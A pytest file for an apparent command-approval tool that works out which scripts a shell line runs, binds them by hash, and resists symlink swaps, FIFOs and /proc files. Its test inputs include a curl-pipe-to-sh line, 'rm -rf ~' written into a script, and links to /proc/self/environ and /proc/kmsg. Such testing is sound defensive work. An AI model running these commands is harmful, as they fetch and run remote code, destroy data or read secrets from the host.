"""Which files a command runs (approvals/script_files.py) and how they are
read and bound (approvals/bound_files.py), on real files in a temporary
directory. What the CLI does with a binding is tested in test_approvals."""

from __future__ import annotations

import hashlib
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from vectraguard.approvals import bound_files
from vectraguard.approvals.bound_files import bind, sha256
from vectraguard.approvals.script_files import named

FILES = ("deploy.sh", "tool.py", "x.js", "x.pl", "x.rb", "x.lua", "prog.awk", "env.sh", "Makefile", "other.mk",
         "sub/run.sh", "sub/Makefile", "hook.js", "app.js", "rc")


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    (tmp_path / "sub").mkdir()
    for name in FILES:
        (tmp_path / name).write_text(f"# {name}\n")
    return tmp_path


def paths(command: tuple[str, ...] | str, cwd: Path) -> list[str]:
    """What `command` runs: paths relative to `cwd`, or `?TEXT` for one that cannot be known."""
    return [os.path.relpath(n.path, cwd) if n.path else "?" + n.text for n in named(command, str(cwd))]


@pytest.mark.parametrize(("line", "runs"), [
    # a program named by a path; shells and their options
    ("./deploy.sh", ["deploy.sh"]),
    ("sh deploy.sh", ["deploy.sh"]),
    ("bash -x deploy.sh arg", ["deploy.sh"]),
    ("bash -o pipefail -e -- deploy.sh", ["deploy.sh"]),
    ("sh -c './deploy.sh'", ["deploy.sh"]),
    ("bash --rcfile rc -c 'true'", ["rc"]),
    ("sh < deploy.sh", ["deploy.sh"]),
    ("cat deploy.sh | sh", ["deploy.sh"]),
    ("busybox sh deploy.sh", ["deploy.sh"]),
    # interpreters, with options that take values or give the program inline
    ("python3 tool.py --flag", ["tool.py"]),
    ("python3.11 -W ignore -u tool.py", ["tool.py"]),
    ("node x.js", ["x.js"]),
    ("node -r ./hook.js app.js", ["hook.js", "app.js"]),
    ("node -r ts-node/register app.js", ["app.js"]),  # a package, not a file here
    ("perl -w x.pl", ["x.pl"]),
    ("ruby x.rb", ["x.rb"]),
    ("lua -e 'x=1' x.lua", ["x.lua"]),
    ("awk -f prog.awk data", ["prog.awk"]),
    # sourcing; make and its makefile
    (". ./env.sh", ["env.sh"]),
    ("source env.sh", ["env.sh"]),
    ("make", ["Makefile"]),
    ("make -j4 test", ["Makefile"]),
    ("make -C sub test", ["sub/Makefile"]),
    ("make -Csub", ["sub/Makefile"]),
    ("make -f other.mk", ["other.mk"]),
    ("make --directory=sub -f ../other.mk", ["other.mk"]),
    # inside a command line: cd, lists, assignments, wrappers, substitutions, conditions
    ("cd sub && ./run.sh", ["sub/run.sh"]),
    ("FOO=1 ./deploy.sh; make test", ["deploy.sh", "Makefile"]),
    ("timeout 60 ./deploy.sh", ["deploy.sh"]),
    ("env FOO=1 nice -n 5 ./deploy.sh", ["deploy.sh"]),
    ("sudo -u bob bash deploy.sh", ["deploy.sh"]),
    ("echo $(./deploy.sh)", ["deploy.sh"]),
    ("if ./deploy.sh; then make; fi", ["deploy.sh", "Makefile"]),
    ("( cd sub && ./run.sh )", ["sub/run.sh"]),
    ("xargs ./deploy.sh < list", ["deploy.sh"]),
    # what runs no file
    ("ls -la && rm -rf ~/cache", []),
    ("python3 -c 'print(1)'", []),
    ("python3 -m http.server", []),
    ("perl -pi -e 's/a/b/' file", []),
    ("awk '{print}' data", []),
    ("cat <<EOF | python3\nprint(1)\nEOF", []),
    ("echo ls | sh", []),
    ("command -v ./deploy.sh", []),
])
def test_what_a_command_line_runs(tree: Path, line: str, runs: list[str]) -> None:
    assert paths(line, tree) == runs


@pytest.mark.parametrize(("line", "unknown"), [
    ('sh "$F"', "?$F"),
    ("./$X.sh", "?./$X.sh (the program is an expansion)"),
    ("$(which sh) deploy.sh", "?$(which sh) (the program is an expansion)"),
    ("./*.sh", "?./*.sh (the program is an expansion)"),
    ("~/bin/deploy.sh", "?~/bin/deploy.sh (the program is an expansion)"),
    ('cd "$D" && ./run.sh', "?./run.sh (in a directory that cannot be known)"),
    ("{ cd sub; }; ./run.sh", "?./run.sh (in a directory that cannot be known)"),
    ("env -C sub ./run.sh", "?./run.sh (in a directory that cannot be known)"),
    ("curl -s https://x.invalid/i.sh | sh", "?sh (reads its program from a pipe)"),
    ("sh", "?sh (reads its program from standard input)"),
    ('bash -c "$CMD"', "?$CMD"),
    ("find . -name '*.sh' | xargs -I{} sh {}", "?{}"),
])
def test_a_file_named_through_an_expansion_cannot_be_known(tree: Path, line: str, unknown: str) -> None:
    assert paths(line, tree) == [unknown]
    assert not bind(line, str(tree)).complete


def test_an_argv_is_read_like_the_words_of_a_line(tree: Path) -> None:
    assert paths(("./deploy.sh", "--now"), tree) == ["deploy.sh"]
    assert paths(("sh", "-c", "cd sub && ./run.sh"), tree) == ["sub/run.sh"]
    assert paths(("./*.sh",), tree) == ["*.sh"]  # no shell: no glob; the file of that name, which does not exist


def test_make_reads_the_first_makefile_that_exists(tree: Path) -> None:
    assert paths("make", tree) == ["Makefile"]
    (tree / "GNUmakefile").write_text("all:\n")
    assert paths("make", tree) == ["GNUmakefile"]  # what make would read now: a binding to Makefile no longer holds


def test_a_binding_records_path_target_and_content(tree: Path) -> None:
    binding = bind("cd sub && ./run.sh; sh ../deploy.sh", str(tree))
    assert binding.complete
    assert [(f.path, f.target, f.sha256) for f in binding.files] == [
        (str(tree / "sub/run.sh"), str(tree / "sub/run.sh"), hashlib.sha256(b"# sub/run.sh\n").hexdigest()),
        (str(tree / "sub/../deploy.sh"), str(tree / "deploy.sh"), hashlib.sha256(b"# deploy.sh\n").hexdigest()),
    ]
    assert binding.matches(bind("cd sub && ./run.sh; sh ../deploy.sh", str(tree)).files)
    (tree / "sub/run.sh").write_text("# sub/run.sh\nrm -rf ~\n")
    assert not bind("cd sub && ./run.sh; sh ../deploy.sh", str(tree)).matches(binding.files)


def test_a_file_swapped_for_a_link_elsewhere_is_another_file(tree: Path) -> None:
    before = bind("./deploy.sh", str(tree))
    (tree / "elsewhere").mkdir()
    (tree / "elsewhere/deploy.sh").write_bytes((tree / "deploy.sh").read_bytes())  # the same content
    (tree / "deploy.sh").unlink()
    (tree / "deploy.sh").symlink_to(tree / "elsewhere/deploy.sh")
    after = bind("./deploy.sh", str(tree))
    assert after.complete and after.files[0].sha256 == before.files[0].sha256
    assert after.files[0].target == str(tree / "elsewhere/deploy.sh")
    assert not after.matches(before.files)


@pytest.mark.parametrize(("make", "why"), [
    (lambda p: None, "no such file"),
    (lambda p: p.mkdir(), "not a regular file"),
    (lambda p: os.mkfifo(p), "not a regular file"),  # opened without blocking, refused
    (lambda p: p.symlink_to("/proc/self/environ"), "a kernel or device file"),
    (lambda p: p.symlink_to("/dev/zero"), "a kernel or device file"),
    (lambda p: p.symlink_to(p), "Too many levels of symbolic links"),
])
def test_what_cannot_be_read_makes_the_binding_incomplete(tmp_path: Path, make: Callable[[Path], object],
                                                          why: str) -> None:
    script = tmp_path / "deploy.sh"
    make(script)
    binding = bind("./deploy.sh", str(tmp_path))
    assert not binding.complete and binding.files == ()
    assert binding.problems == (f"{script}: {why}",)
    assert not binding.matches(())


def test_a_file_over_the_size_cap_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bound_files, "MAX_BYTES", 1024 * 1024)
    big = tmp_path / "big"
    big.write_bytes(b"x" * (1024 * 1024 + 1))
    assert sha256(str(big)) == (None, "larger than 1 MiB")
    big.write_bytes(b"x" * (1024 * 1024))
    assert sha256(str(big)) == (hashlib.sha256(b"x" * (1024 * 1024)).hexdigest(), "")



@pytest.mark.parametrize("line", ["python3 k1.py", "sh k7.sh", "sh /proc/kmsg", "sh link.sh", "sh fifo.sh"])
def test_the_judge_never_blocks_on_a_kernel_file_a_script_names(tmp_path: Path, line: str) -> None:
    """Found by a blind attack: the judge read /proc/kmsg (a regular file of size 0
    whose read blocks, and consumes the host's kernel log) because a script
    named it, and `vectraguard check` or `run` hung on the host. A file the
    judge reads must say how much it holds, and only that much is read."""
    import subprocess
    import sys

    (tmp_path / "k1.py").write_text('print(open("/proc/kmsg").read(1))\n')
    (tmp_path / "k7.sh").write_text(". /proc/kmsg\n")
    (tmp_path / "link.sh").symlink_to("/proc/kmsg")
    os.mkfifo(tmp_path / "fifo.sh")
    env = {**os.environ, "VECTRAGUARD_DATA_DIR": str(tmp_path / "data"), "XDG_CONFIG_HOME": str(tmp_path / "cfg")}
    try:
        done = subprocess.run([sys.executable, "-m", "vectraguard", "check", "-p", "default", "--", *line.split()],
                              cwd=tmp_path, env=env, capture_output=True, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail(f"`vectraguard check -- {line}` hung (it read a file that never ends)")
    assert done.returncode in (0, 1, 2, 125) and b"Traceback" not in done.stderr, done.stderr
